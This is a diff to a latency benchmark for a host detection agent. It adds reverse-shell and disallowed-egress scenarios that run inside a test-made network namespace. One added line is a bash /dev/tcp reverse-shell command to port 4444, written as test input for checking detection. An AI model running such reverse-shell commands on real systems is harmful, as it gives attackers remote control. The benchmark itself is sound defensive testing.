@@ -3,7 +3,9 @@
 Runs the real agent (as root) on a tmp config and, in the same run, a naive baseline: a
 thread that polls /proc, the watched dirs and /proc/net/tcp once per agent.interval, the
 way a simple cron-style checker would. Prints each scenario's p50 against its target and
-the ratio agent/baseline.
+the ratio agent/baseline. Socket scenarios (a reverse shell on a /dev/tcp socket, a
+connection outside the egress allow-list) run their clients in a test-made network
+namespace pair on 198.51.100.0/24; the baseline reads that namespace's tcp table too.
 
     sudo python3 benchmarks/bench_latency.py [--reps 5] [--interval 1.0]
 """
@@ -12,9 +14,11 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import itertools
 import os
 import secrets
 import signal
+import socket
 import statistics
 import subprocess
 import sys
@@ -28,15 +32,36 @@ sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests" / "suppo
 
 from agent_harness import AgentRun, Record, record_time
 from fakes import fake_elf_miner, free_pool_port, write_burner
+from netpair import INET_IP, Pair, netpair, ready
+
+HOLD_PORT, EGRESS_BASE = 4444, 8100  # the egress scenario's n-th rep goes to EGRESS_BASE + n
+HOLD = r"""
+import socket, sys, threading
+def drain(c):
+    while c.recv(4096):
+        pass
+def serve(s):
+    while True:
+        threading.Thread(target=drain, args=(s.accept()[0],), daemon=True).start()
+for port in sys.argv[1:]:
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", int(port)))
+    s.listen(16)
+    threading.Thread(target=serve, args=(s,), daemon=True).start()
+print("up", flush=True)
+threading.Event().wait()
+"""
 
 
 class Poller:
     """The baseline: one look at the box per interval; notes when each key was first seen."""
 
-    def __init__(self, interval: float, watch: Path, etc: Path) -> None:
+    def __init__(self, interval: float, watch: Path, etc: Path, tables: list[str]) -> None:
         self.interval = interval
         self.watch = watch
         self.etc = etc
+        self.tables = tables  # tcp tables read: the host's and the box namespace's
         self.seen: dict[str, float] = {}
         self.stop = threading.Event()
 
@@ -52,10 +77,11 @@ class Poller:
                 for f in files:
                     with contextlib.suppress(OSError):
                         keys.append(f"file:{dirpath}/{f}:{os.path.getsize(f'{dirpath}/{f}')}")
-        with contextlib.suppress(OSError):
-            for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
-                local, remote = line.split()[1:3]
-                keys.append(f"tcp:{local}->{remote}")
+        for table in self.tables:
+            with contextlib.suppress(OSError):
+                for line in Path(table).read_text().splitlines()[1:]:
+                    local, remote = line.split()[1:3]
+                    keys.append(f"tcp:{local}->{remote}")
         now = time.time()  # the poller knows what it read once its pass is done
         for k in keys:
             self.seen.setdefault(k, now)
@@ -87,16 +113,21 @@ def main() -> int:
     if os.geteuid() != 0:
         print("bench_latency: needs root (netlink, fanotify)", file=sys.stderr)
         return 2
-    with tempfile.TemporaryDirectory(prefix="bench-latency-") as tmp:
+    with tempfile.TemporaryDirectory(prefix="bench-latency-") as tmp, netpair() as pair:
         root = Path(tmp)
-        agent = AgentRun(root / "agent", interval=args.interval)
+        ports = [HOLD_PORT, *range(EGRESS_BASE, EGRESS_BASE + args.reps)]
+        ready(pair.python(pair.inet, HOLD, *map(str, ports)))
+        resident = pair.resident(pair.box)
+        allow = f'[network]\negress_allow = ["{INET_IP}/32:80"]\n'
+        agent = AgentRun(root / "agent", interval=args.interval, extra=allow)
         agent.start()
-        poller = Poller(args.interval, agent.watch, agent.etc)
+        tables = ["/proc/net/tcp", f"/proc/{resident}/net/tcp"]
+        poller = Poller(args.interval, agent.watch, agent.etc, tables)
         threading.Thread(target=poller.run, daemon=True).start()
         results: dict[str, tuple[list[float], list[float]]] = {}
         started: list[subprocess.Popen[bytes]] = []
         try:
-            for name, scenario in SCENARIOS.items():
+            for name, scenario in {**SCENARIOS, **socket_scenarios(pair)}.items():
                 ours, base = [], []
                 for i in range(args.reps):
                     agent_s, baseline_s = scenario(agent, poller, root / f"{name}-{i}", started)
@@ -115,6 +146,8 @@ def main() -> int:
         "file drop (ELF miner)": 2.0,
         "persistence (cron line)": 2.0,
         "network (pool port)": args.interval + 1.0,
+        "reverse shell (stdio)": args.interval + 1.0,
+        "egress (not allowed)": args.interval + 1.0,
     }
     print(f"agent.interval = {args.interval}s, {args.reps} repetitions each")
     head = ("scenario", "p50", "max", "target", "ok", "baseline p50", "ratio")
@@ -127,7 +160,7 @@ def main() -> int:
             f"{name:26} {p50(ours):7.3f} {max(ours):7.3f} {target:7.2f}  {ok:3} "
             f"{p50(base):12.3f} {ratio:6.2f}"
         )
-    print("baseline: a poller reading /proc, the watched dirs and /proc/net/tcp once per interval")
+    print("baseline: a poller reading /proc, the watched dirs and the tcp tables once per interval")
     return 0
 
 
@@ -198,6 +231,44 @@ def network(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple
         return latencies(
             agent, poller, t0, rec, lambda k: k.startswith("tcp:") and k.endswith(remote)
         )
+
+
+def tcp_key(ip: str, port: int) -> str:
+    """The remote end as /proc/net/tcp writes it (an IPv4 address in host byte order)."""
+    return "->" + bytes(reversed(socket.inet_aton(ip))).hex().upper() + f":{port:04X}"
+
+
+def socket_scenarios(pair: Pair) -> dict[str, Scenario]:
+    """The scenarios whose clients run in the box namespace of `pair`."""
+    reps = itertools.count()
+
+    def about(pid: int, rule: str) -> Callable[[Record], bool]:
+        return lambda r: r["rule"] == rule and (r["process"] or {}).get("pid") == pid
+
+    def reverse_shell(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple:
+        t0 = time.time()
+        line = f"exec 3<>/dev/tcp/{INET_IP}/{HOLD_PORT}; exec sleep 30 <&3 >&3"
+        p = pair.run(pair.box, ["bash", "-c", line])
+        rec = agent.wait_for(about(p.pid, "tunnel.reverse_shell_socket"), agent.interval + 15)
+        remote = tcp_key(INET_IP, HOLD_PORT)
+        return latencies(agent, poller, t0, rec, lambda k: k.endswith(remote))
+
+    def egress(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple:
+        port = EGRESS_BASE + next(reps)  # a new destination each time: reported once each
+        work.mkdir(parents=True)
+        script = work / "client.py"  # a program of its own: no folding into an incident
+        script.write_text(
+            "import socket, sys, time\n"
+            f"c = socket.create_connection(({INET_IP!r}, {port}))\n"
+            "time.sleep(30)\n"
+        )
+        t0 = time.time()
+        p = pair.run(pair.box, [sys.executable, str(script)])
+        rec = agent.wait_for(about(p.pid, "network.egress_unknown"), agent.interval + 15)
+        remote = tcp_key(INET_IP, port)
+        return latencies(agent, poller, t0, rec, lambda k: k.endswith(remote))
+
+    return {"reverse shell (stdio)": reverse_shell, "egress (not allowed)": egress}
 
 
 SCENARIOS: dict[str, Scenario] = {
